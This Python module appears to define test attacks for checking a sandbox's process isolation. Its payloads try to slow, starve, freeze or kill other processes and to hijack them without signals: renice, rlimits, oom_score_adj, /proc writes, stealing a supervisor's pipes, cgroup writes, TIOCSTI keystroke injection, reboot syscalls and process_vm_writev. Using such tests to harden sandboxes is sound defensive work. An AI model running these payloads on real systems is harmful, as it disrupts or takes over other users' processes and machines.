"""Attacks on the running of others without a signal: by priorities, limits, memory, files and pipes.

A part of the group `signals`.
"""

from __future__ import annotations

from ..case import Attack, Group
from .toolkit import python

_SIGNALS = Group.SIGNALS

#: Who is to be hit, the other session first and the first process last; and whether a blow has told.
TARGETS = r"""
guardian, kernel, _ = bystander()
targets = sorted(others(), key=lambda pid: (pid not in (kernel, guardian), pid == 1, pid))
programs = ("guardian.py", "boot.py", "outlast.supervisor", "rq.cli", "Runs cells", "ipykernel", "The usual way")
lasting = {pid for pid, words in others().items() if pid == 1 or any(name in " ".join(words) for name in programs)}
def is_hit(pid):
    "Whether it has stopped, or has ended although nothing but a blow ends it."
    return fields(pid)[0] in ((b"T", b"t", b"Z", b"X", b"gone") if pid in lasting else (b"T", b"t"))
def blow(what, step, pid):
    "A way that Linux lets pass is a hit, and so is one that shows."
    before = is_hit(pid)
    if passes(step):
        keep(f"{what} to {pid}", (others().get(pid) or ["gone"])[:4])
    elif not before and is_hit(pid):
        keep(f"{what} to {pid}, which has stopped", fields(pid)[0])
"""

_PRIORITY = r"""
for pid in targets:
    for nice in (19, 5):
        blow(f"the priority {nice}", lambda: os.setpriority(os.PRIO_PROCESS, pid, nice), pid)
    for group in {int(fields(pid)[2])} - {0, os.getpgrp()}:
        blow("the priority of a group", lambda: os.setpriority(os.PRIO_PGRP, group, 19), pid)
for user in {os.stat(f"/proc/{pid}").st_uid for pid in targets if os.path.exists(f"/proc/{pid}")} - {0, os.getuid()}:
    blow(f"the priority of all of user {user}", lambda: os.setpriority(os.PRIO_USER, user, 19), targets[0])
for each, kind in [(pid, 1) for pid in targets] + [(int(fields(pid)[2]), 2) for pid in targets]:
    if each not in (0, os.getpgrp()):
        blow("a place behind all others at the disk", lambda: call("ioprio_set", kind, each, 3 << 13), targets[0])
line = ["renice", "-n", "19", "-p", *map(str, targets)]
said = subprocess.run(line, capture_output=True, text=True).stdout
keep("renice(1)", re.findall(r".*old priority.*", said))
before = os.getpriority(os.PRIO_PROCESS, 0)
attempt(os.setpriority, os.PRIO_PROCESS, 0, -20)
keep("a priority above all others", os.getpriority(os.PRIO_PROCESS, 0) < before)
verdict()
"""

_PROCESSORS = r"""
for pid in targets:
    for thread in threads(pid)[:4]:
        blow("one processor only", lambda: os.sched_setaffinity(thread, {min(os.sched_getaffinity(0))}), pid)
        for policy in (os.SCHED_IDLE, os.SCHED_BATCH, os.SCHED_OTHER):
            blow("another policy", lambda: os.sched_setscheduler(thread, policy, os.sched_param(0)), pid)
        attributes = struct.pack("=IIQiIQQQII", 56, 5, 0x60, 0, 0, 0, 0, 0, 0, 1)
        blow("a low clock", lambda: call("sched_setattr", thread, attributes, 0), pid)
keep("chrt(1)", subprocess.run(["chrt", "--idle", "-p", "0", str(targets[0])], capture_output=True).returncode == 0)
keep("taskset(1)", subprocess.run(["taskset", "-p", "1", str(targets[0])], capture_output=True).returncode == 0)
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    passed("real time for ourselves", os.sched_setscheduler, 0, policy, os.sched_param(50))
verdict()
"""

_LIMITS = r"""
for pid in targets:
    keep(f"the limits of {pid}, read by the call", attempt(limit, pid, resource.RLIMIT_NOFILE))
    for kind, wanted in ((resource.RLIMIT_CPU, (1, 1)), (resource.RLIMIT_NOFILE, (3, 3)), (resource.RLIMIT_NPROC, (1,
            1)),
                         (resource.RLIMIT_AS, (4096, 4096)), (resource.RLIMIT_FSIZE, (0, 0))):
        blow(f"the limit {kind}", lambda: limit(pid, kind, *wanted), pid)
keep("prlimit(1)", subprocess.run(["prlimit", "--nofile=3:3", "--pid", str(targets[0])],
                                  capture_output=True).returncode == 0)
verdict()
"""

_MEMORY_KILLS_OTHERS = r"""
def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return read(path).strip().decode()
for pid in targets:
    for name, text in (("oom_score_adj", "1000"), ("oom_adj", "15")):
        keep(f"{name} of {pid}", attempt(write, f"/proc/{pid}/{name}", text))
        keep(f"{name} of {pid}", attempt(write, f"/proc/{pid}/task/{pid}/{name}", text))
verdict()
"""

_SPARED_BY_MEMORY = r"""
# Whoever has the lower number is ended later when memory runs out; children start with their parent's.
start = int(read("/proc/self/oom_score_adj"))
def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return int(read(path))
for wanted in (start - 1, 0, -999, -1000):
    for path in ("/proc/self/oom_score_adj", "/proc/thread-self/oom_score_adj",
                 f"/proc/{os.getpid()}/task/{os.getpid()}/oom_score_adj", f"/proc/{os.getppid()}/oom_score_adj"):
        reached = attempt(write, path, str(wanted))
        keep(path, reached if reached is not None and reached < start else None)
child = subprocess.run(["sh", "-c", f"echo {start - 1} >/proc/self/oom_score_adj; cat /proc/self/oom_score_adj"],
                       capture_output=True, text=True)
keep("a child's", child.stdout.strip() if int(child.stdout or start) < start else None)
choom = subprocess.run(["choom", "-n", "-1000", "-p", str(os.getpid())], capture_output=True, text=True)
now = int(read("/proc/self/oom_score_adj"))
keep("by choom(1)", now if now < start else None)
verdict()
"""

_THEIR_FILES = r"""
# Opened for writing and left as they are: each steers the process that it belongs to.
names = ("comm", "mem", "clear_refs", "coredump_filter", "oom_score_adj", "timerslack_ns", "sched", "autogroup",
         "loginuid", "setgroups", "uid_map", "gid_map", "projid_map", "timens_offsets", "make-it-fail", "fail-nth",
         "latency", "attr/current", "attr/exec", "attr/fscreate", "attr/keycreate")
for pid in [*targets, os.getppid()]:
    for name in names:
        for base in (f"/proc/{pid}", f"/proc/{pid}/task/{pid}"):
            opened = attempt(os.open, f"{base}/{name}", os.O_WRONLY)
            keep(f"{base}/{name}", None if opened is None else "open for writing")
verdict()
"""

_GUARDIANS_PIPES = r"""
# The guardian is told what to do by one pipe, and tells how the kernel is by another.
for pid in [os.getppid(), guardian, *targets]:
    for entry in range(12):
        for flags in (os.O_WRONLY | os.O_NONBLOCK, os.O_RDONLY | os.O_NONBLOCK, os.O_RDWR | os.O_NONBLOCK):
            opened = attempt(os.open, f"/proc/{pid}/fd/{entry}", flags)
            if opened is not None:
                keep(f"descriptor {entry} of {pid}", os.readlink(f"/proc/self/fd/{opened}"))
                if flags & os.O_WRONLY and entry == 0:
                    keep("a command for the guardian", attempt(os.write, opened, b"k"))
    handle = attempt(os.pidfd_open, pid)
    for entry in range(12) if handle is not None else ():
        keep(f"descriptor {entry} of {pid}", attempt(call, "pidfd_getfd", handle, entry, 0))
# What others have given us an end of must not give us the other end, nor stop whoever reads there.
for entry in os.listdir("/proc/self/fd"):
    facts = attempt(os.stat, int(entry))
    if facts and stat.S_ISFIFO(facts.st_mode) and facts.st_uid != os.getuid():
        keep(f"the other end of {entry}", attempt(os.open, f"/proc/self/fd/{entry}", os.O_RDONLY | os.O_NONBLOCK))
        os.set_blocking(int(entry), False)
        for _ in range(64):
            attempt(os.write, int(entry), b"x" * 65536)
        os.set_blocking(int(entry), True)
time.sleep(1)
keep("the guardian is stuck", fields(os.getppid())[0] in (b"T", b"Z", b"gone"))
verdict()
"""

_CONTROL_GROUPS = r"""
def write(path, text):
    opened = os.open(path, os.O_WRONLY)
    return os.write(opened, text)
base = "/sys/fs/cgroup"
places = [base, *glob.glob(f"{base}/*/"), *glob.glob(f"{base}/*/docker/*/")]
for place in places:
    for name, text in (("cgroup.freeze", b"0"), ("cgroup.procs", str(os.getpid()).encode()), ("memory.max", b"max"),
                       ("pids.max", b"max"), ("cpu.weight", b"100"), ("memory.limit_in_bytes", b"-1"), ("tasks", b"0")):
        keep(f"{place}/{name}", attempt(write, f"{place}/{name}", text))
    for name in ("cgroup.kill", "cgroup.subtree_control", "memory.reclaim", "freezer.state"):
        keep(f"{place}/{name}", attempt(os.open, f"{place}/{name}", os.O_WRONLY))
    passed(f"a group below {place}", os.mkdir, f"{place}/own")
verdict()
"""

_TERMINALS = r"""
import fcntl, pty, termios
main, side = pty.openpty()
os.set_blocking(main, False)
for path in ["/dev/console", "/dev/tty0", "/dev/tty1", "/dev/ttyS0", *glob.glob("/dev/pts/[0-9]*")]:
    if path != os.ttyname(side):
        keep(path, attempt(os.open, path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
# On a terminal that we share with somebody, typed letters would be theirs.
out, into = os.pipe()
child = os.fork()
if child == 0:
    os.setsid()
    with contextlib.suppress(OSError):
        fcntl.ioctl(side, termios.TIOCSCTTY, 1)
        for letter in b"id\n":
            fcntl.ioctl(side, termios.TIOCSTI, bytes([letter]))
        os.write(into, os.read(side, 10))
    with contextlib.suppress(OSError):
        fcntl.ioctl(side, 0x541C, b"\x02\x00")  # TIOCLINUX: paste
        os.write(into, b"pasted")
    os._exit(0)
os.close(into)
os.waitpid(child, 0)
keep("typed on a terminal", os.read(out, 100))
for pid in targets:
    passed(f"the terminal's foreground is {pid}", fcntl.ioctl, side, termios.TIOCSPGRP, struct.pack("=i", pid))
verdict()
"""

_MACHINE = r"""
RESTART, HALT, OFF = 0x01234567, 0xCDEF0123, 0x4321FEDC
for command in (OFF, HALT, RESTART):
    out, into = os.pipe()
    child = os.fork()
    if child == 0:
        with contextlib.suppress(OSError):
            call("reboot", 0xFEE1DEAD, 672274793, command, 0)
            os.write(into, b"done")
        os._exit(0)
    os.close(into)
    os.waitpid(child, 0)
    keep("the container's end", os.read(out, 10))
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/panic", "/proc/sys/kernel/pid_max",
             "/proc/sys/kernel/threads-max", "/proc/sys/vm/overcommit_memory", "/proc/sys/kernel/ns_last_pid",
             "/sys/power/state", "/dev/watchdog", "/dev/initctl", "/run/initctl", "/proc/acpi/wakeup"):
    opened = attempt(os.open, path, os.O_WRONLY | os.O_NONBLOCK)
    keep(path, None if opened is None else "open for writing")
verdict()
"""

_MOVED = r"""
MADV_COLD, MADV_PAGEOUT = 20, 21
vector = ctypes.create_string_buffer(struct.pack("=QQ", 0x400000, 4096))
for pid in targets:
    handle = attempt(os.pidfd_open, pid)
    if handle is not None:
        for advice in (MADV_COLD, MADV_PAGEOUT):
            start = next((int(line.split(b"-")[0], 16) for line in (attempt(read,
                    f"/proc/{pid}/maps") or b"").splitlines()), 0x400000)
            vector = ctypes.create_string_buffer(struct.pack("=QQ", start, 4096))
            keep(f"memory of {pid} driven out", attempt(call, "process_madvise", handle, vector, 1, advice, 0))
    status = (ctypes.c_int * 1)()
    page = (ctypes.c_void_p * 1)(0x400000)
    moved = attempt(call, "move_pages", pid, 1, page, None, status, 0)
    keep(f"where the memory of {pid} is", None if moved is None else f"page state {status[0]}")
    piece = ctypes.create_string_buffer(struct.pack("=QQ", ctypes.addressof(page), 8))
    there = ctypes.create_string_buffer(struct.pack("=QQ", 0x400000, 8))
    keep(f"memory of {pid} written", attempt(call, "process_vm_writev", pid, piece, 1, there, 1, 0))
verdict()
"""

ATTACKS: tuple[Attack, ...] = (
    python(_SIGNALS, "to slow others by their priority", TARGETS + _PRIORITY),
    python(_SIGNALS, "to slow others by their processors and policy", TARGETS + _PROCESSORS),
    python(_SIGNALS, "to cut others' limits", TARGETS + _LIMITS),
    python(_SIGNALS, "to have others ended when memory runs out", TARGETS + _MEMORY_KILLS_OTHERS),
    python(_SIGNALS, "to be spared when memory runs out", _SPARED_BY_MEMORY),
    python(_SIGNALS, "to steer others by their files in /proc", TARGETS + _THEIR_FILES),
    python(_SIGNALS, "to command or silence guardians by their pipes", TARGETS + _GUARDIANS_PIPES),
    python(_SIGNALS, "to freeze or end all by their control group", _CONTROL_GROUPS),
    python(_SIGNALS, "to type on others' terminals", TARGETS + _TERMINALS, terminals=True),
    python(_SIGNALS, "to end the machine or the container", _MACHINE),
    python(_SIGNALS, "to drive out, move and change others' memory", TARGETS + _MOVED),
)
